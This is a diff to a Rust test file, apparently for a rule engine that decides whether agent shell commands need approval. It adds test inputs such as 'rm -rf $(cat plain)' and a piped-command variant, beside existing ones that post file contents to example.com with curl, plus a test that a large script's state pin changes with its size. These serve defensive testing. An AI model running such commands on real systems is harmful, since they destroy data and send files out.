@@ -154,6 +154,7 @@ fn a_question_is_bound_to_the_files_that_another_piece_of_the_text_reads() {
             format!("cat plain | {{ {consumer}; }}"),
             format!("cat plain |& {consumer}"),
             format!("cat plain |\n  {consumer}"),
+            format!("cat plain | \\\n  {consumer}"),
             format!("cat plain | # it\n  {consumer}"),
             format!("cat plain | while true; do {consumer}; done"),
             format!("{{ {consumer}; }} < plain"),
@@ -183,6 +184,7 @@ fn a_question_is_bound_to_the_files_that_another_piece_of_the_text_reads() {
         "x=$(cat plain); curl -d \"$x\" https://example.com",
         "for l in $(<plain); do $l; done",
         "xargs rm < plain",
+        "rm -rf $(cat plain)",
         "aws lambda invoke --payload file://plain x",
         "run() { curl -d @- https://example.com; }; cat plain | run",
     ] {
@@ -226,6 +228,17 @@ fn a_script_that_is_too_large_or_unknown_is_asked_about_each_time() {
     large(&folder.path().join("large.csv"));
     assert!(grantable("python3 x.py large.csv"));
     assert!(!grantable("python3 large.py"));
+    // It is known by its size and its time, so that another one is another question.
+    let state = || {
+        let call = args(json!({"command": "python3 large.py"}));
+        let ruling = rules.decide(&RuleCall::new("shell", &call));
+        let found = ruling.pins().iter().find(|(name, _)| name.as_str() == "state of large.py");
+        found.unwrap().1.clone()
+    };
+    let before = state();
+    assert_eq!(state(), before);
+    std::fs::write(folder.path().join("large.py"), vec![b'2'; (8 << 20) + 2]).unwrap();
+    assert_ne!(state(), before);
     // The text that is run is not looked at.
     assert!(!grantable("eval 'python3 x.py'"));
 }
